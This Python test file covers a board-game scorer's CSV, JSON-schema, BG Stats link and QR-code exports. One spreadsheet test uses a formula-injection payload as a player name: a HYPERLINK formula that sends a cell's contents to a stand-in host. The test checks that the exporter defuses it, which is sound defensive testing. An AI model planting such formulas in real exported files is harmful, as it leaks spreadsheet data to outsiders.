"""CSV, JSON schemas and the BG Stats link."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from typing import Any
from urllib.parse import unquote, urlsplit

import jsonschema
import pytest

from scorer.cards import Deck
from scorer.errors import RefusedInput
from scorer.exchange import MODELS, bgstats_link, bgstats_play, qr_code, qr_picture, spreadsheet, to_csv
from scorer.gamefile import GameFile
from scorer.result import Result, score
from scorer.result.advice import advise
from tests.scorer.games import eric, game, solo

WHEN = datetime(2026, 11, 20, 20, 5, 9, tzinfo=timezone(timedelta(hours=1)))


def result(data: dict[str, Any] | None = None) -> Result:
    return score(GameFile.from_dict(data or game()))


class TestCsv:
    def rows(self, data: dict[str, Any] | None = None) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(to_csv(result(data)).removeprefix("\ufeff"))))

    def test_a_row_a_player(self) -> None:
        rita, eric = self.rows()
        assert (rita["name"], rita["total"], rita["winner"]) == ("Rita", "17", "no")
        assert (eric["corrupted_codices"], eric["b3"], eric["winner"]) == ("4", "-4", "yes")

    def test_the_public_library_has_a_row(self) -> None:
        assert [row["name"] for row in self.rows(solo())] == ["Igor", "Public library"]

    def test_names_are_quoted(self) -> None:
        assert self.rows(eric(name='Eric, "the" čtenář'))[1]["name"] == 'Eric, "the" čtenář'


class TestSchemas:
    def check(self, name: str, document: Any) -> None:
        jsonschema.validate(document, MODELS[name].model_json_schema())

    def test_game_files_fit_their_schema(self) -> None:
        self.check("game", game())
        self.check("game", solo())
        with pytest.raises(jsonschema.ValidationError):
            self.check("game", game(colour="red"))

    def test_results_fit_their_schema(self) -> None:
        self.check("result", result().to_json())
        self.check("result", result(solo()).to_json())
        self.check("flips", advise(GameFile.from_dict(game())).model_dump(mode="json"))

    def test_the_house_deck_fits_its_schema(self) -> None:
        self.check("deck", Deck.house().to_dict())

    @pytest.mark.parametrize("name", MODELS)
    def test_schemas_are_schemas(self, name: str) -> None:
        jsonschema.Draft202012Validator.check_schema(MODELS[name].model_json_schema())


class TestBgStats:
    def test_the_play(self) -> None:
        play = bgstats_play(result(), WHEN, start_player="Eric")
        assert play["playDate"] == "2026-11-20 19:05:09"  # UTC
        assert play["sourceName"] == "Shelfmark"
        assert play["game"] == {
            "name": "Ex Libris",
            "bggId": 201825,
            "sourceGameId": "ex-libris",
            "highestWins": True,
            "noPoints": False,
        }
        rita, eric = play["players"]
        assert (rita["name"], rita["score"], rita["winner"], rita["rank"], rita["startPlayer"]) == (
            "Rita",
            17,
            False,
            2,
            False,
        )
        assert (eric["score"], eric["winner"], eric["rank"], eric["startPlayer"]) == (43, True, 1, True)
        assert rita["sourcePlayerId"] != eric["sourcePlayerId"]

    def test_the_same_play_has_the_same_id(self) -> None:
        ids = {bgstats_play(result(), WHEN.astimezone(zone))["sourcePlayId"] for zone in (UTC, WHEN.tzinfo)}
        assert len(ids) == 1
        assert bgstats_play(result(), WHEN + timedelta(seconds=1))["sourcePlayId"] not in ids

    def test_the_link_carries_the_play(self) -> None:
        link = bgstats_link(result(eric(name="Čeněk & co")), WHEN)
        assert link.startswith("https://app.bgstatsapp.com/createPlay.html?data=%7B")
        assert link.isascii()
        data = json.loads(unquote(urlsplit(link).query.removeprefix("data=")))
        assert data["players"][1]["name"] == "Čeněk & co"

    def test_ties_share_a_rank(self) -> None:
        same = {"tally": {}, "stability": 4}
        players = [
            {"name": name, "focus": focus, **same}
            for name, focus in (("Ana", "historic_volumes"), ("Bo", "monster_manuals"))
        ]
        for more, won in (
            ({"edition": "cs"}, [(True, 1), (True, 1)]),
            ({}, [(False, 1), (False, 1)]),
            ({"reading_winner": "Bo"}, [(False, 2), (True, 1)]),
        ):
            scored = result(game(players=players, **more))
            play = bgstats_play(scored, WHEN)
            assert [(p["winner"], p["rank"]) for p in play["players"]] == won
            rows = [
                line.split(";" if more.get("edition") else ",")[-1] for line in to_csv(scored).splitlines()
            ]
            assert [row in ("yes", "ano") for row in rows[1:]] == [winner for winner, _ in won]
        last = [*players, {"name": "Cy", "focus": "spells_potions", "tally": {}, "stability": 0}]
        assert bgstats_play(result(game(players=last)), WHEN)["players"][2]["rank"] == 3

    def test_a_lost_solo_game(self) -> None:
        lost = solo(
            library={"focus": "monster_manuals", "tally": {"reference_texts": 9, "monster_manuals": 20}}
        )
        (player,) = bgstats_play(result(lost), WHEN)["players"]
        assert player["winner"] is False

    def test_the_qr_code(self) -> None:
        link = bgstats_link(result(), WHEN)
        assert qr_picture(link, ".svg").startswith(b"<?xml")
        assert qr_picture(link, "png").startswith(b"\x89PNG")
        with pytest.raises(RefusedInput, match=r"\.svg, \.png or \.pdf"):
            qr_picture(link, ".docx")

    def test_four_long_names_fit_into_a_qr_code(self) -> None:
        focuses = ("historic_volumes", "monster_manuals", "spells_potions", "fantastical_fictions")
        players = [
            {"name": f"{i} Maximiliane von Hohenstein", "focus": focus, "tally": {}, "stability": 0}
            for i, focus in enumerate(focuses)
        ]
        assert not qr_code(bgstats_link(result(game(players=players)), WHEN)).is_micro

    def test_a_link_too_long_for_a_qr_code(self) -> None:
        with pytest.raises(RefusedInput, match="more than a QR code holds"):
            qr_code("https://app.bgstatsapp.com/" + "x" * 3000)


class TestSpreadsheets:
    """CSV opens in a spreadsheet with a double click, whatever the language, and names are never formulas."""

    @pytest.mark.parametrize(("edition", "mark"), [("en", ","), ("pt", ";"), ("fr", ";"), ("cs", ";")])
    def test_a_table_opens_in_columns(self, edition: str, mark: str) -> None:
        text = to_csv(result(eric(name="Jiří Řehoř") | {"edition": edition}))
        assert text.encode("utf-8").startswith(b"\xef\xbb\xbf"), "Excel takes it for UTF-8"
        lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=mark))
        assert {len(line) for line in lines} == {17}
        assert lines[2][2] == "Jiří Řehoř"
        english = lines[0][0] == "form"
        assert english == (edition == "en")

    @pytest.mark.parametrize("name", ['=HYPERLINK("http://x.test?"&C2)', "+1+1", "-2+3", "@SUM(A1:A9)"])
    def test_a_name_is_no_formula(self, name: str) -> None:
        lines = list(csv.reader(io.StringIO(to_csv(result(eric(name=name))))))
        assert lines[2][2] == f"'{name}"
        assert spreadsheet([[f"\t{name}"], [f"\r{name}"]], "en").count("'") == 2

    def test_numbers_stay_numbers(self) -> None:
        assert spreadsheet([[-4, 1.5]], "en") == "\ufeff-4,1.5\n"
        assert spreadsheet([[-4, 1.5]], "fr") == "\ufeff-4;1,5\n"


class TestOnePlay:
    """A play has one id, whatever its words, and also when its form was mended."""

    def test_by_its_key(self) -> None:
        def identity(edition: str, hand: int) -> str:
            told = result(eric(hand=hand) | {"edition": edition})
            return str(bgstats_play(told, WHEN, key="table-1")["sourcePlayId"])

        assert len({identity(edition, hand) for edition in ("en", "fr", "cs", "pt") for hand in (0, 3)}) == 1
        assert bgstats_play(result(), WHEN, key="table-2")["sourcePlayId"] != identity("en", 0)

    def test_without_a_key_by_its_numbers(self) -> None:
        plays = [bgstats_play(result(game(edition=each)), WHEN) for each in ("en", "fr", "cs", "pt")]
        assert len({play["sourcePlayId"] for play in plays}) == 1
        assert bgstats_play(result(eric(hand=1, name="Jo")), WHEN)["sourcePlayId"] != plays[0]["sourcePlayId"]

    def test_a_person_has_one_id(self) -> None:
        ids = {
            bgstats_play(result(eric(name=name)), WHEN)["players"][1]["sourcePlayerId"]
            for name in ("Zoë", "Zoe\u0308", "zoë ")
        }
        assert len(ids) == 1
